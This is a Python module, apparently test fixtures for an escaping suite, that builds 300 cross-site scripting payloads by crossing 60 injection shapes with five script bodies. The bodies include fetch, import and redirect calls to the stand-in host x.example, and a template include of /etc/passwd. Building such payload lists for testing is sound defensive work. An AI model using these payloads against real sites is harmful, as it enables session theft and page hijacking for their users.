"""Three hundred things that become a script wherever they are not shown as the text they are."""

import os
from itertools import product

_RUNS = (
    "alert(1)",
    "alert`1`",
    "location='//x.example'",
    "import('//x.example/a.js')",
    "fetch('//x.example')",
)
_SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<SCRIPT SRC=//x.example/a.js>{}</SCRIPT>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
    '" autofocus onfocus="{}',
    "' autofocus onfocus='{}",
    "x onmouseover={} y",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</option></select><img src=x onerror={}>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>x</a>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "<form action=javascript:{}><button>x</button></form>",
    "<base href=//x.example/><script>{}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<link rel=stylesheet href=//x.example/a.css>{}",
    "<style>@import '//x.example';</style>{}",
    "<template shadowrootmode=open><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<script>{}</script>]]>",
    "{{{{ ''.__class__ }}}}<script>{}</script>",
    "{{% include '/etc/passwd' %}}{}",
    "${{{}}}",
    "%(who)s %s {{0}} <script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\x0c>{}</script\x0b>",
    "<img/src=x/onerror={}//>",
    "<x onclick={} tabindex=1 id=main>",
    "<input name=token value=1 onfocus={} autofocus>",
    "<button formaction=javascript:{}>x</button>",
    "<a id=x name=y href='//x.example' ping='//x.example'>{}</a>",
    "<video><source onerror={}></video>",
    "<marquee onstart={}>x</marquee>",
    "<isindex type=image src=1 onerror={}>",
    "\u202e<script>{}</script>\u202c",
    "＜script＞{}＜/script＞",
    "<script>/*</textarea>*/{}</script>",
    "'-{}-'",
    '";{};//',
    "</del></ins></td><script>{}</script>",
    "<plaintext>{}",
    "<xmp><script>{}</script></xmp>",
    "<dialog open onclose={}></dialog>",
    "<p style=background:url(//x.example)>{}</p>",
    "<label for=f-why onclick={}>x</label>",
    "<table background=//x.example><tr><td>{}</table>",
)
PAYLOADS = tuple(shape.format(run) for shape, run in product(_SHAPES, _RUNS))
assert len(PAYLOADS) == len(set(PAYLOADS)) == 300
TRIED = (
    PAYLOADS
    if os.environ.get("QUIETLINE_SUITE")
    else tuple(shape.format(_RUNS[at % len(_RUNS)]) for at, shape in enumerate(_SHAPES))
)
"""What pages are tried with: in a plain run each shape once, with the five scripts by turns."""
assert set(TRIED) <= set(PAYLOADS)
assert len(TRIED) >= len(_SHAPES) == 60
